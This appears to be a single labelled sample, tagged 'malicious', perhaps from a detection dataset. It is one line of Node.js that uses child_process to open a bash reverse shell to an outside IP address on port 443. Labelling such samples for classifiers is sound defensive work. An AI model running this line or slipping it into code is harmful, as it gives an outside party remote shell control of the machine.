// label: malicious
require("child_process").execSync("bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'");
